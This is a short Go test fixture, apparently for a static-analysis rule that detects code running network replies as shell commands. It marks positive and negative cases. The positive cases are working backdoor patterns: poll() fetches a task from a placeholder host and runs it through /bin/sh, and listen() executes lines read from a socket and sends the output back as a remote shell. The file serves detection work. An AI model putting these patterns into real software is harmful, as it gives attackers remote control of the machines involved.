package a

import (
	"bufio"
	"io"
	"net"
	"net/http"
	"os/exec"
)

func poll() {
	r, _ := http.Get("https://example.invalid/task")
	body, _ := io.ReadAll(r.Body)
	// ruleid: go-reply-is-command
	exec.Command("/bin/sh", "-c", string(body)).Run()
}

func listen(conn net.Conn) {
	for {
		line, _ := bufio.NewReader(conn).ReadString('\n')
		// ruleid: go-reply-is-command
		out, _ := exec.Command("sh", "-c", line).CombinedOutput()
		conn.Write(out)
	}
}

func honest(r *http.Response, dir string) {
	body, _ := io.ReadAll(r.Body)
	println(string(body))
	// ok: go-reply-is-command
	exec.Command("git", "-C", dir, "status").Run()
	// ok: go-reply-is-command
	exec.Command("sh", "-c", "true").Run()
}
